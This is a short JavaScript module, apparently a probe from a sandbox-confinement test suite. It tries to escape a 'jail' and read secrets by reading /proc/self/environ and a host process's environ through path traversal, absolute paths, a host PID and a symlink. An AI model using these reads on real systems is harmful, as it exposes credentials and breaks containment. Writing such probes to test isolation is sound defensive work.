// proof: secret
// behind: jail
// Looks into the process file system for the environment and the open files of the host.
import { first } from './routes.mjs';

const up = '../'.repeat(16);

export default (input, caps) => first(
  () => caps.files.readText(up + 'proc/self/environ'),
  () => caps.files.readText('/proc/self/environ'),
  () => caps.files.readText(`${up}proc/${input.hostPid}/environ`),
  () => caps.files.readText('link-to-proc/self/environ'),
);
